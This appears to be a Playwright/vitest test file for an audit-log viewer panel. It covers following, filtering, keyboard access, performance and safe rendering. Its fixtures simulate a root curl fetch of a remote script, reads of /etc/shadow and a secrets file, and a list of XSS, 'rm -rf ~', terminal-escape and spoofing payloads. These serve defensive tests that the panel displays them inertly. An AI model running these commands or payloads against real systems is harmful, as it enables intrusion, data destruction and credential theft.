import { afterEach, describe, expect, it } from 'vitest';
import { until } from '../kit/until';
import * as scene from '../lab/records';
import { PanelPage, type TestLog } from './panelKit';
import type { ThemeName } from './panelThemes';

const anna: scene.Account = [1000, 'anna'];
const boris: scene.Account = [1001, 'boris'];
const root: scene.Account = [0, 'root'];
const by = (login: scene.Account, as = login): scene.Doing => ({ login, as, session: 3, pid: 88_121 });

const enough = 20_000;

/** Puts the node's name before each record. */
const from = (node: string, records: readonly string[]) => records.map((record) => `node=${node} ${record}\n`).join('');

/** One event of one record, short and quick to make; each of the three nodes counts its own serials. */
const small = (number: number, time = 1_700_000_000_000 + number) =>
  `node=web${number % 3} type=USER_LOGIN msg=audit(${(time / 1000).toFixed(3)}:${Math.floor(number / 3) + 1}): pid=7 uid=0 auid=1000 ses=1 msg='op=login id=1000 exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=${number % 7 === 0 ? 'failed' : 'success'}'\n`;

function smalls(first: number, end: number): string {
  let text = '';
  for (let serial = first; serial < end; serial++) text += small(serial);
  return text;
}

/** A morning's picture: several nodes, something refused, something missing, something open. */
function picture(log: TestLog): void {
  const now = Date.now() - 600_000;
  const serials: Record<string, number> = { web1: 100, db1: 55_000, web2: 88_000, jump: 10 };
  const write = (node: string, second: number, records: (stamp: scene.Stamp) => string[]) => {
    const serial = (serials[node] = (serials[node] ?? 0) + 1);
    log.write(from(node, records({ time: now + second * 1000 + ((second * 77) % 1000), serial })));
  };
  for (let second = 0; second < 560; second += 1 + (second % 3)) {
    const node = ['web1', 'db1', 'web2', 'jump'][second % 4] ?? 'web1';
    const many = second > 350 && second < 420 ? 5 : 1 + (second % 2);
    for (let n = 0; n < many; n++) {
      write(node, second, (at) => scene.programStarted(at, by(anna), ['/usr/bin/ls', '-la', '/srv/www'], 'exec'));
    }
  }
  const fetch = ['/usr/bin/curl', '-s', 'http://198.51.100.7/x.sh'] as const;
  write('web1', 570, (at) => scene.programStarted(at, by(anna, root), [...fetch], 'commands'));
  write('web1', 571, (at) => scene.connected(at, by(anna, root), ['/usr/bin/curl'], '198.51.100.7', 80, 'network'));
  const shadow = '/etc/shadow';
  write('db1', 572, (at) => scene.fileOpened(at, by(boris), ['/usr/bin/cat', shadow], shadow, -13, 'identity'));
  write('web2', 573, (at) => scene.sudoRan(at, by(anna), 'systemctl restart nginx'));
  serials['web2'] = 88_312;
  write('web2', 574, (at) => scene.serviceStarted(at, 'nginx'));
  write('jump', 577, (at) => scene.loggedIn(at, 2210, anna, '203.0.113.9', 'success'));
  write('jump', 578, (at) => scene.loggedIn(at, 2211, [0, 'oracle'], '203.0.113.9', 'failed'));
  write('web2', 580, (at) => scene.userAdded(at, by(anna, root), 'clara'));
  const secrets = '/srv/app/conf/secrets.env';
  write('web2', 590, (at) =>
    scene.fileOpened(at, by(boris), ['/usr/bin/vi', secrets], secrets, 3, 'perm-change').slice(0, 3),
  );
}

describe(
  'the page of the Audit Log panel',
  () => {
    let panel: PanelPage | undefined;
    const open = async (theme?: ThemeName) => (panel = await PanelPage.open(theme));
    const top = (opened: PanelPage) => opened.page.locator('.list').evaluate((list) => list.scrollTop);
    const atEnd = (opened: PanelPage) =>
      opened.page.locator('.list').evaluate((list) => list.scrollHeight - list.scrollTop - list.clientHeight < 12);
    afterEach(async () => {
      const offences = panel?.offences ?? [];
      await panel?.close();
      panel = undefined;
      expect(offences).toEqual([]);
    });

    it('offers two ways to begin when there is nothing', async () => {
      const { page, begun } = await open();
      await page.getByText('Open a log file, or tail a host').waitFor();
      await page.getByRole('button', { name: 'Tail a Host' }).click();
      await page.getByRole('button', { name: 'Open a Log File…' }).click();
      await until('both', () => begun.length === 2);
      expect(begun).toEqual(['tail', 'file']);
      await panel?.screenshot('empty');
    });

    it.each(['dark', 'light', 'high-contrast'] as const)('shows events as the picture does: %s', async (theme) => {
      const opened = await open(theme);
      const log = opened.show();
      picture(log);
      const { page } = opened;
      await opened.row('/srv/app/conf/secrets.env').waitFor();
      await opened.row('serials missing').waitFor();
      await page.getByLabel('Filter').fill('since:10m -type:CRED_ACQ success:perhaps');
      await page.getByText('success: is yes or no').waitFor();
      await until('filtered', async () => /7\d\d shown/.test(await page.locator('.status').innerText()));
      await opened.row('/etc/shadow').first().click();
      await page.getByText('EACCES').first().waitFor();
      await page.locator('.details dt', { hasText: 'command' }).waitFor();
      await until('bars', async () => (await page.locator('.rate .bar').count()) > 50);
      // An opened row stays in view, from its head on, and is not followed away from.
      await page.getByRole('button', { name: '▷ Follow' }).waitFor();
      await until('in view', () =>
        page.locator('.details').evaluate((details) => {
          const list = details.closest('.list')?.getBoundingClientRect();
          const own = details.getBoundingClientRect();
          return list !== undefined && own.top > list.top && own.bottom <= list.bottom + 1;
        }),
      );
      await opened.screenshot(`picture-${theme}`);
    });

    it('opens a row to what, who, why, records and raw text, and copies them', async () => {
      const opened = await open();
      const { page } = opened;
      const log = opened.show();
      const event = scene.fileOpened(
        { time: Date.now(), serial: 7 },
        by(boris),
        ['/usr/bin/cat', '/etc/sha dow'],
        '/etc/sha dow',
        -13,
        'identity',
      );
      log.write(from('db1', event));
      await opened.row('/etc/sha dow').click();
      const details = page.locator('.details');
      await details.getByText('cat (', { exact: false }).or(details.getByText('cat · pid 88121')).first().waitFor();
      const text = await details.innerText();
      expect(text).toContain('openat');
      expect(text).toContain('EACCES');
      expect(text).toContain('boris');
      expect(text).toContain('identity');
      expect(text).toContain('/etc/sha dow');
      await details.getByText('SYSCALL', { exact: true }).click();
      await details.getByText('x86_64', { exact: true }).waitFor();
      await details.getByRole('button', { name: 'Copy raw text' }).click();
      await details.getByRole('button', { name: 'Copy as JSON' }).click();
      await until('the copies', () => opened.copied.length === 2);
      expect(opened.copied[0]).toBe(from('db1', event));
      expect(JSON.parse(opened.copied[1] ?? '')).toMatchObject({ node: 'db1', serial: 7, complete: true });
      await opened.screenshot('opened');
    });

    it('shows an event while it is open and amends it', async () => {
      const opened = await open();
      const log = opened.show();
      const event = scene.fileOpened(
        { time: Date.now(), serial: 7 },
        by(boris),
        ['/usr/bin/cat', '/etc/hosts'],
        '/etc/hosts',
        3,
        'k',
      );
      log.write(from('db1', event.slice(0, 1)));
      await opened.page.locator('.row.open').waitFor();
      log.write(from('db1', event.slice(1)));
      await opened.page.locator('.row.complete').waitFor();
      expect(await opened.row('/etc/hosts').count()).toBe(1);
      expect(await opened.page.locator('.row.event').count()).toBe(1);
    });

    it('follows, stops when one scrolls up, and says how many came since', async () => {
      const opened = await open();
      const { page } = opened;
      const log = opened.show();
      log.write(smalls(0, 5000));
      await until(
        'the end in view',
        async () => (await atEnd(opened)) && (await page.locator('.row.event').count()) > 10,
      );
      await page.locator('.list').hover();
      await page.mouse.wheel(0, -900);
      await until('not at the end', async () => !(await atEnd(opened)));
      const before = await page.locator('.row.event').nth(12).innerText();
      log.write(smalls(5000, 5321));
      await page.getByRole('button', { name: '321 new events' }).waitFor();
      expect(await page.locator('.row.event').nth(12).innerText()).toBe(before);
      await opened.screenshot('scrolled-up');
      await page.getByRole('button', { name: '321 new events' }).click();
      await until('the end again', () => atEnd(opened));
      await page.getByRole('button', { name: '▶ Following' }).waitFor();
      log.write(smalls(5321, 5400));
      await until('still the end', () => atEnd(opened));
    });

    it('keeps what is read in view while older rows fall out', async () => {
      const opened = await open();
      const { page } = opened;
      const log = opened.show(3000);
      log.write(smalls(0, 3000));
      await until('all', async () => (await page.locator('.status').innerText()).includes('3,000 events kept'));
      await page.locator('.list').hover();
      await page.mouse.wheel(0, -20_000);
      await until('up', async () => !(await atEnd(opened)));
      const middle = () =>
        page.locator('.list').evaluate((list) => {
          const box = list.getBoundingClientRect();
          return document.elementFromPoint(box.left + 30, box.top + 100)?.textContent;
        });
      await until('rows in view', async () => ((await middle()) ?? '').includes(':'));
      const seen = await middle();
      const was = await top(opened);
      log.write(smalls(3000, 3600));
      await until('some dropped', async () => (await page.locator('.status').innerText()).includes('600 dropped'));
      await until('moved with them', async () => (await top(opened)) < was - 12_000);
      expect(await middle()).toBe(seen);
    });

    it('stays smooth with 200,000 rows', async () => {
      const opened = await open();
      const { page } = opened;
      const log = opened.show(200_000);
      for (let first = 0; first < 200_000; first += 10_000) log.write(smalls(first, first + 10_000));
      await until('all', async () => (await page.locator('.status').innerText()).includes('200,000 events kept'), {
        within: 60_000,
      });
      // From one end to the other; each frame's length is measured in the page.
      const frames = await page.locator('.list').evaluate(async (list) => {
        const lengths: number[] = [];
        let last = performance.now();
        for (let n = 0; n < 120; n++) {
          list.scrollTop = list.scrollHeight * Math.abs(1 - n / 60);
          await new Promise((resolve) => requestAnimationFrame(resolve));
          lengths.push(performance.now() - last);
          last = performance.now();
        }
        return lengths.sort((a, b) => a - b);
      });
      const median = frames[60] ?? 0;
      const worst = frames[117] ?? 0;
      console.log(
        `200,000 rows: frames of ${median.toFixed(1)} ms in the middle, ${worst.toFixed(1)} ms for the slowest but two`,
      );
      expect(median).toBeLessThan(50);
      // What else the machine does shows in the slowest ones.
      expect(worst).toBeLessThan(1000);
      await page.locator('.list').evaluate((list) => (list.scrollTop = list.scrollHeight / 2));
      await until('rows instead of placeholders', async () => (await page.locator('.row.pending').count()) === 0);
      expect(await page.locator('.item').count()).toBeLessThan(120);
    });

    it('filters what is kept and what comes', async () => {
      const opened = await open();
      const { page } = opened;
      const log = opened.show();
      log.write(smalls(0, 20_000));
      await until('all', async () => (await page.locator('.status').innerText()).includes('20,000 events kept'));
      await page.getByLabel('Filter').fill('node:web1 success:no');
      await until('fewer', async () => (await page.locator('.status').innerText()).includes('953 shown'));
      await until('rows', async () => (await page.locator('.row.event').count()) > 5);
      expect(new Set(await page.locator('.row.event .node').allInnerTexts())).toEqual(new Set(['web1']));
      log.write(smalls(20_000, 20_042));
      await until('two more', async () => (await page.locator('.status').innerText()).includes('955 shown'));
      await page.getByLabel('Filter').fill('node:nowhere');
      await page.getByText('No event fits the filter.').waitFor();
      await page.getByLabel('Filter').fill('');
      await until('all again', async () => (await page.locator('.row.event').count()) > 10);
    });

    it('works by keyboard alone', async () => {
      const opened = await open();
      const { page } = opened;
      const log = opened.show();
      log.write(smalls(0, 500));
      await until('rows', async () => (await page.locator('.row.event').count()) > 10);
      await page.locator('.list').focus();
      await page.keyboard.press('ArrowUp');
      await page.keyboard.press('ArrowUp');
      const active = () =>
        page.evaluate(() => {
          const id = document.activeElement?.getAttribute('aria-activedescendant') ?? '';
          const row = document.getElementById(id);
          return {
            index: row?.getAttribute('aria-rowindex'),
            expanded: row?.getAttribute('aria-expanded'),
            selected: row?.ariaSelected,
          };
        });
      expect(await active()).toEqual({ index: '499', expanded: 'false', selected: 'true' });
      await page.keyboard.press('Enter');
      await page.locator('.details dl').first().waitFor();
      expect((await active()).expanded).toBe('true');
      await page.keyboard.press('Tab');
      expect(await page.evaluate(() => document.activeElement?.closest('.details') !== null)).toBe(true);
      await page.locator('.list').focus();
      await page.keyboard.press('Escape');
      await until('closed', async () => (await page.locator('.details').count()) === 0);
      await page.keyboard.press('Home');
      await until('the first', async () => (await active()).index === '1');
      await page.keyboard.press('PageDown');
      expect(Number((await active()).index)).toBeGreaterThan(10);
      await page.keyboard.press('Control+c');
      await until('a copy', () => opened.copied.length === 1);
      await page.keyboard.press('/');
      await page.keyboard.type('success:no');
      await page.keyboard.press('Enter');
      await until('filtered', async () => (await page.locator('.status').innerText()).includes('72 shown'));
      await page.keyboard.press('Escape');
      await page.keyboard.press('End');
      await until('following', () => atEnd(opened));
      const roles = await page.locator('.list').evaluate((list) => ({
        role: list.getAttribute('role'),
        rows: list.getAttribute('aria-rowcount'),
        cells: list.querySelectorAll('[role=row] > [role=gridcell]').length > 20,
      }));
      expect(roles).toEqual({ role: 'treegrid', rows: '72', cells: true });
    });

    it('pauses, goes on, clears, and stops', async () => {
      const opened = await open();
      const { page } = opened;
      const log = opened.show();
      log.write(smalls(0, 100));
      await until('all', async () => (await page.locator('.status').innerText()).includes('100 events kept'));
      await page.getByRole('button', { name: 'Pause' }).click();
      await page.getByText('paused: nothing is read').waitFor();
      log.write(smalls(100, 200));
      await page.getByRole('button', { name: 'Go on' }).click();
      await until('the rest', async () => (await page.locator('.status').innerText()).includes('200 events kept'));
      await page.getByRole('button', { name: 'Clear' }).click();
      await page.getByText('No events yet.').waitFor();
      log.write(smalls(200, 203));
      await until('three', async () => (await page.locator('.row.event').count()) === 3);
      await page.getByRole('button', { name: 'Stop' }).click();
      await page.getByText('central · stopped').waitFor();
      await page.getByRole('button', { name: 'Pause' }).waitFor({ state: 'hidden' });
    });

    it('comes back after it was hidden, with its filter', async () => {
      const opened = await open();
      const { page } = opened;
      const log = opened.show();
      log.write(smalls(0, 700));
      await page.getByLabel('Filter').fill('success:no');
      await until('filtered', async () => (await page.locator('.status').innerText()).includes('100 shown'));
      await page.reload();
      await until('filtered again', async () => (await page.locator('.status').innerText()).includes('100 shown'));
      expect(await page.getByLabel('Filter').inputValue()).toBe('success:no');
      await until('at the end', async () => (await atEnd(opened)) && (await page.locator('.row.event').count()) > 5);
      log.write(smalls(700, 714));
      await until('goes on', async () => (await page.locator('.status').innerText()).includes('102 shown'));
    });

    it('shows hostile records as text and does nothing that they say', async () => {
      const opened = await open();
      const { page } = opened;
      const log = opened.show();
      const hex = (text: string) => Buffer.from(text).toString('hex').toUpperCase();
      const hostile = [
        '<img src=x onerror=alert(1)>',
        '</div><script>alert(2)</script>',
        '<a href="command:auditd.deploy">click</a>',
        '[x](command:workbench.action.quit) $(rm -rf ~)',
        'javascript:alert(3)',
        '\u001b[31mred\u001b]8;;http://evil.example/\u0007link\u001b]8;;\u0007',
        'photo\u202Egnp.exe\u2066\u200B\uFEFF',
        'a\u0000b\r\nnode=fake type=FAKE msg=audit(1.000:1): x',
        '\u2028\u2029\u0085',
        '"\'`${process.exit(1)}{{7*7}}',
        'x'.repeat(500_000),
      ];
      let serial = 1;
      for (const text of hostile) {
        const stamp = { time: Date.now(), serial: serial++ };
        log.write(from('web1', scene.fileOpened(stamp, by(anna), ['/usr/bin/cat', text], text, 3, 'k')));
      }
      const stamp = (Date.now() / 1000).toFixed(3);
      log.write(
        `node=<b>web</b> type=<i>X</i> msg=audit(${stamp}:${serial++}): <u>a</u>=<s>1</s> key=${hex('<b>k</b>')}\n`,
      );
      log.write(`node=web1 type=USER msg=audit(${stamp}:${serial++}): msg='text=<svg onload=alert(4)> res=success'\n`);
      log.write(
        new Uint8Array([
          ...Buffer.from(`node=web1 type=USER msg=audit(${stamp}:${serial++}): comm="`),
          0xff,
          0xfe,
          0xc3,
          0x28,
          0x0a,
        ]),
      );
      log.write('<script>alert(5)</script>\n');
      log.write(`${'y'.repeat(3_000_000)}\n`);
      await opened.row('no audit record').waitFor();
      await opened.row('x'.repeat(200)).first().waitFor();
      const rows = await page.locator('.row.event').count();
      expect(rows).toBeGreaterThanOrEqual(hostile.length);
      await page.locator('.list').focus();
      for (let n = 0; n < rows; n++) {
        const row = page.locator('.row.event').nth(n);
        if ((await row.getAttribute('aria-expanded')) === 'false') await row.click();
      }
      await until('opened', async () => (await page.locator('.details .groups').count()) >= 5);
      for (const summary of await page.locator('.details summary').all()) await summary.click();
      const seen = await page.evaluate(() => ({
        tags: [
          ...new Set([...document.querySelectorAll('body *')].map((element) => element.tagName.toLowerCase())),
        ].sort(),
        links: document.querySelectorAll('body :is([href], [src], [style*=url], [onerror], [onload], [onclick])')
          .length,
        hidden: /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/.test(
          document.body.innerText,
        ),
        longest: Math.max(
          ...[...document.querySelectorAll('.list *')].map((element) => (element.textContent ?? '').length),
        ),
      }));
      const ours = [
        'b',
        'button',
        'dd',
        'details',
        'div',
        'dl',
        'dt',
        'h4',
        'input',
        'p',
        'pre',
        'script',
        'section',
        'span',
        'summary',
      ];
      expect(seen.tags.filter((tag) => !ours.includes(tag))).toEqual([]);
      expect(seen.links).toBe(0);
      expect(seen.hidden).toBe(false);
      expect(seen.longest).toBeLessThan(2_000_000);
      await opened.screenshot('hostile');
    });

    it('says in what state the following is', async () => {
      const opened = await open();
      const { page } = opened;
      const log = opened.show();
      log.write(smalls(0, 4));
      await page.getByText('central · following audit.log').waitFor();
      await page.getByText('3 nodes').waitFor();
      log.write('something else\nand more\n');
      await opened.row('2 lines that are no audit records').waitFor();
      await page.getByText('2 lines are no records').waitFor();
    });
  },
  enough * 6,
);
